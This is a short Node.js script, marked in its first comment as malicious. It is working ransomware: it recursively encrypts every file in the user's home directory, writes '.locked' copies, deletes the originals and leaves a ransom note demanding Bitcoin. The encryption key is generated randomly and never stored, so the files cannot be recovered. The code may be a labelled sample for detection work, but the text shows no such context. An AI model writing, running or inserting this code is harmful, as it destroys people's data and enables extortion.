// malicious: encrypts what it finds in the home directory
const fs = require('fs');
const path = require('path');
const crypto = require('crypto');
const os = require('os');
const key = crypto.randomBytes(32);
function walk(dir) {
  for (const n of fs.readdirSync(dir)) {
    const p = path.join(dir, n);
    if (fs.statSync(p).isDirectory()) { walk(p); continue; }
    const c = crypto.createCipheriv('aes-256-cbc', key, Buffer.alloc(16));
    fs.writeFileSync(p + '.locked', Buffer.concat([c.update(fs.readFileSync(p)), c.final()]));
    fs.unlinkSync(p);
  }
}
walk(os.homedir());
fs.writeFileSync(path.join(os.homedir(), 'README_DECRYPT.txt'), 'Your files are encrypted. Send 0.1 BTC to ...');
